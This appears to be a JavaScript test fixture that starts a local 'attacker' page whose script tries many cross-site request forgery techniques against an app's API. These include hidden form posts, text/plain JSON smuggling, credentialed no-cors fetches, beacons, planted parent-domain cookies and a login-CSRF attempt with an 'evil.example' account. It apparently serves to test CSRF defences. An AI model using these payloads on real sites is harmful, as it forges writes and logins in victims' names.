// A page of another host that tries everything a page can, to write in the name of whoever is signed in.
import { once } from 'node:events';
import { createServer } from 'node:http';

/** The page's script: every way a browser knows to send a write without being asked twice. */
function attack({ home, target }) {
  const json = JSON.stringify({ name: 'Planted', url: target });
  const form = (action, enctype, fields) => {
    const frame = document.createElement('iframe');
    frame.name = `frame-${Math.random()}`;
    const made = document.createElement('form');
    Object.assign(made, { action, enctype, method: 'post', target: frame.name });
    for (const [name, value] of fields) {
      const field = document.createElement('input');
      Object.assign(field, { type: 'hidden', name, value });
      made.append(field);
    }
    document.body.append(frame, made);
    return new Promise((done) => {
      // A frame that may not show what it got has loaded all the same.
      frame.onload = done;
      made.submit();
    });
  };
  const endpoints = `${home}/api/v1/endpoints`;
  const quiet = (promise) => promise.catch(() => {});
  // Cookies for every host below the one we share: they stand beside the real ones.
  const shared = new URL(home).hostname;
  for (const name of ['csrf', 'session']) {
    // biome-ignore lint/suspicious/noDocumentCookie: it is the attack.
    document.cookie = `${name}=planted; domain=${shared}; path=/`;
  }
  const body = new URLSearchParams({ name: 'Planted', url: target });
  const sent = { mode: 'no-cors', credentials: 'include', method: 'POST' };
  return Promise.all([
    form(endpoints, 'application/x-www-form-urlencoded', [...body]),
    form(endpoints, 'text/plain', [[json.slice(0, -1), '}']]),
    form(`${home}/api/v1/auth/logout`, 'application/x-www-form-urlencoded', []),
    form(`${home}/api/v1/auth/session`, 'text/plain', [
      ['{"email":"eve@evil.example","password":"', '"}'],
    ]),
    quiet(fetch(endpoints, { ...sent, headers: { 'content-type': 'text/plain' }, body: json })),
    quiet(fetch(endpoints, { ...sent, body })),
    quiet(
      fetch(endpoints, {
        method: 'POST',
        credentials: 'include',
        headers: { 'content-type': 'application/json', 'x-csrf-token': 'planted' },
        body: json,
      }),
    ),
    navigator.sendBeacon(endpoints, json),
    new Promise((done) => {
      const image = new Image();
      image.onerror = image.onload = done;
      image.src = `${home}/api/v1/auth/logout`;
    }),
  ]).then(() => undefined);
}

/** Listens on every name; `url` makes its address under one. */
export async function startAttacker(options) {
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(
      `<!doctype html><title>Kittens</title><body><script>
        window.finished = (${attack})(${JSON.stringify(options)});
      </script>`,
    );
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address();
  return {
    url: (host) => `http://${host}:${port}/`,
    close: () => server.close(),
  };
}
